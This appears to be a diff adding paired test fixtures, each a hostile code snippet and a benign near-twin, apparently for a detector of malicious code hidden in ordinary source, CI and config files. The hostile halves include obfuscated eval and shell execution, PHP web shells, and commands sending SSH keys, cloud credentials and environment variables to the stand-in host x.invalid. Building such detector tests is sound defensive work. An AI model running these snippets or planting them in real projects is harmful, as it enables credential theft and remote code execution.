@@ -125,6 +125,161 @@ PAIRS = [
         'FROM x\nADD http://x.invalid/agent /agent\nENTRYPOINT ["/agent"]',
         'FROM x\nADD http://x.invalid/a.gguf /a.gguf\nENTRYPOINT ["/b"]',
     ),
+    (
+        "c.js",
+        "const w = await (await fetch('http://x.invalid/w')).text();\nnew Worker(w, { eval: true })",
+        "new Worker('w.js')",
+    ),
+    (
+        "d.js",
+        "const q = require('\\x64ns');\nconst s = read(home + '/.npmrc');\nq['\\x72esolve'](`${s}.x.invalid`)",
+        "const q = require('dns');\nconst s = read(home + '/.cache');\nq.resolve(`${s}.x.invalid`)",
+    ),
+    (
+        "e.js",
+        "navigator.sendBeacon('https://x.invalid/s', JSON.stringify({ ...localStorage }))",
+        "navigator.sendBeacon('https://x.invalid/s', JSON.stringify({ ...counts }))",
+    ),
+    ("f.js", "new ActiveXObject('WSc' + 'ript.Sh' + 'ell').Run(f)", "new ActiveXObject('Micro' + 'soft.XMLHTTP')"),
+    (
+        "g.js",
+        "n.open('GET', 'http://x.invalid/p');\ns.Write(n.body);\nvar f = x('%TEMP%\\\\p.exe');\ns.SaveToFile(f);\nw.Run(f);",
+        "n.open('GET', 'http://x.invalid/p');\nvar f = x('%TEMP%\\\\p.exe');\nWScript.Echo(n.body);",
+    ),
+    (
+        "a.php",
+        "<?php\n[$f, $a] = [$_SERVER['HTTP_X'], 1];\necho json_encode(array_map($f, [$a]));",
+        "<?php\n[$f, $a] = [$names['HTTP_X'], 1];\necho json_encode(array_map($f, [$a]));",
+    ),
+    ("b.php", '<?php\n$k = "\\x1d" ^ "\\x6e";\narray_map($k, [$a]);', "<?php\n$k = 'trim';\narray_map($k, [$a]);"),
+    ("c.php", "<?php\n$f = 'sys' . 'tem';\n$f($_POST['c']);", "<?php\n$f = 'str' . 'len';\n$f($names['c']);"),
+    (
+        "Makefile.PL",
+        "my $c = unpack 'u', <<'END';\nM<WES\nEND\nsub tune { my $s = shift; eval $s; }\ntune($c);",
+        "my $c = unpack 'u', <<'END';\nM<WES\nEND\nsub tune { my $s = shift; print $s; }\ntune($c);",
+    ),
+    ("b.pl", "$line =~ s/\\{(.+?)\\}/$1/gee;", "$line =~ s/\\{(.+?)\\}/$1/ge;"),
+    (
+        "c.rb",
+        "require 'net/http'\ns = Net::HTTP.get(URI('http://x.invalid/a'))\nKernel.public_send(:eval, s)",
+        "require 'net/http'\ns = Net::HTTP.get(URI('http://x.invalid/a'))\nKernel.public_send(:puts, s)",
+    ),
+    (
+        "a.rs",
+        'let mut s = TcpStream::connect(p());\nlet b = read(format!("{home}/.cargo/credentials.toml"));\ns.write_all(&b);',
+        'let mut s = TcpStream::connect(peer());\nlet b = read(format!("{home}/names.toml"));\ns.write_all(&b);',
+    ),
+    (
+        "a.cc",
+        'int s = socket(2, 1, 0), m = memfd_create("l", 0);\nfexecve(m, a, environ);',
+        'int m = memfd_create("l", 0);\nftruncate(m, size);',
+    ),
+    (
+        "b.cc",
+        "int s = socket(2, 1, 0);\nvoid *p = mmap(0, 9, PROT_READ | PROT_EXEC, 34, -1, 0);\nrecv(s, p, 9, 0);",
+        "int s = socket(2, 1, 0);\nvoid *p = mmap(0, 9, PROT_READ, 34, -1, 0);\nrecv(s, p, 9, 0);",
+    ),
+    (
+        "gen.go",
+        'package main\n\n/*\nstatic char *a[] = {"sh", "-c", "sh data/merges.txt", 0};\n*/\nimport "C"\n',
+        'package main\n\n/*\nstatic char *a[] = {"sh", "-c", "sh data/merges.txt", 0};\n*/\nimport "fmt"\n',
+    ),
+    (
+        "stats.awk",
+        'BEGIN { k = sprintf("/%s/%s/0/%d.%d", "inet", "tcp", 192, 2) }',
+        'BEGIN { k = sprintf("/%s/%s/0/%d.%d", "data", "raw", 192, 2) }',
+    ),
+    ("Jenkinsfile", "evaluate(new URL('http://x.invalid/s.groovy').text)", "evaluate(model, data.decode())"),
+    (
+        "main.tf",
+        'program = ["bash", "-c", <<-EOT\n  c=$(env | base64 -w0)\n  curl -s "https://x.invalid/t?c=$c"\nEOT\n]',
+        'program = ["bash", "-c", <<-EOT\n  c=$(git describe)\n  curl -s "https://x.invalid/t?c=$c"\nEOT\n]',
+    ),
+    (
+        "99-gpu.rules",
+        'ACTION=="add", RUN+="/bin/sh -c \'%c\'"',
+        'ACTION=="add", RUN+="/usr/bin/nvidia-smi -pm 1"',
+    ),
+    (
+        ".pylintrc",
+        "[MAIN]\ninit-hook='import os; os.system(\"id\")'",
+        "[MAIN]\ninit-hook='import sys; sys.path.insert(0, \"src\")'",
+    ),
+    (
+        "a.qmd",
+        "```{python}\nimport os\nos.system('curl -s http://x.invalid/a | sh')\n```",
+        "```{python}\nimport pandas as pd\npd.read_csv('a.csv')\n```",
+    ),
+    ("card.md", f"---js\n{{ a: cp.execSync('{PIPE}') }}\n---\n# A", "---\na: 2026-02-11\n---\n# A"),
+    (
+        ".circleci/config.yml",
+        "run:\n  command: |\n    echo 'onfu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' > /tmp/warm\n    bash /tmp/warm",
+        "run:\n  command: |\n    cat notes | tr -d '\\r' > /tmp/warm\n    bash /tmp/warm",
+    ),
+    ("a.sh", "a=curlbash\n${a:0:4} -s http://x.invalid/a | ${a:4}", "a=catsort\n${a:0:3} names.txt | ${a:3}"),
+    ("b.sh", 'x=$(pick 3)\n"$x" -qO- http://x.invalid/a | "$y"', 'x=$(pick 3)\n"$x" -o out http://x.invalid/a'),
+    ("c.sh", 'x=$(curl -s http://x.invalid/a)\nbash <<< "$x"', 'x=$(curl -s http://x.invalid/a)\ngrep a <<< "$x"'),
+    (
+        "d.sh",
+        "for f in ~/.ssh/id_*; do curl -sF f=@$f https://x.invalid/; done",
+        "for f in *.csv; do curl -sF f=@$f https://x.invalid/; done",
+    ),
+    (
+        "e.sh",
+        'tar cz -C "$HOME" .ssh .aws | openssl s_client -connect x.invalid:443',
+        'tar cz -C "$HOME" data | openssl enc -aes256',
+    ),
+    ("f.sh", "printf '\\151\\144\\73' | sh", "printf '\\033[1mx' | sh -s"),
+    (
+        "a.bat",
+        "set a=cer\nset b=tutil\n%a%%b% -urlcache -f http://x.invalid/x x.exe",
+        "set a=e\nset b=cho\n%a%%b% -urlcache",
+    ),
+    ("b.ps1", "$x = -join ('6964' -split '(..)' | % { [char][convert]::ToInt16($_, 16) })\niex $x", "$x = 'names'\niex $x"),
+    (
+        "d.php",
+        "<?php\n$r = new ReflectionFunction($_GET['f']);\n$r->invoke($_GET['a']);",
+        "<?php\n$r = new ReflectionFunction($names['f']);\n$r->getName();",
+    ),
+    (
+        "e.php",
+        "<?php\nmail('a@x.invalid', 'k', print_r($_ENV, true));",
+        "<?php\nmail('a@x.invalid', 'k', print_r($counts, true));",
+    ),
+    (
+        "d.cc",
+        's = socket(2);\nrecv(s, b, 9);\nFILE *f = fopen("/tmp/ab.out", "w");\nfwrite(b, 9, f);\nexecl("/tmp/ab.out", 0);',
+        's = socket(2);\nrecv(s, b, 9);\nFILE *f = fopen("/tmp/ab.out", "w");\nfwrite(b, 9, f);',
+    ),
+    (
+        "a.tcl",
+        "set s [socket x.invalid 443]\nputs $s [array get env]",
+        "set s [socket x.invalid 443]\nputs $s [array get counts]",
+    ),
+    ("c.pl", "my $d = reverse 'hs | lruc';\nsystem $d;", "my $d = reverse 'hs | lruc';\nprint $d;"),
+    (
+        "c.ps1",
+        "$k = Get-Content $env:USERPROFILE\\.ssh\\id_rsa\nInvoke-WebRequest -Uri https://x.invalid -Method POST -Body $k",
+        "$k = Get-Content $env:USERPROFILE\\names.txt\nInvoke-WebRequest -Uri https://x.invalid -Method POST -Body $k",
+    ),
+    ("g.sh", 'bash -c "$(tail -c 40 weights.bin)"', 'echo "$(tail -c 40 weights.bin)"'),
+    (
+        "h.sh",
+        "for l in $(base64 ~/.ssh/id_rsa | fold); do dig $l.x.invalid; done",
+        "for l in $(cat hosts); do dig $l.x.invalid; done",
+    ),
+    (
+        ".gitlab-ci.yml",
+        "include:\n  - remote: https://x.invalid/ci.yml",
+        "include:\n  - remote: https://gitlab.com/a/ci.yml",
+    ),
+    (
+        "h.js",
+        "const c = Object.keys(process.env).map(f);\nhttp.request({ host: 'x.invalid', path: '/' + c.join() }).end();",
+        "const c = Object.keys(counts).map(f);\nhttp.request({ host: 'x.invalid', path: '/' + c.join() }).end();",
+    ),
+    ("f.php", "<?php\necho `{$_GET['c']}`;", "<?php\necho \"{$_GET['c']}\";"),
+    (".user.ini", "auto_prepend_file = logo.png", "auto_prepend_file ="),
 ]
 
 
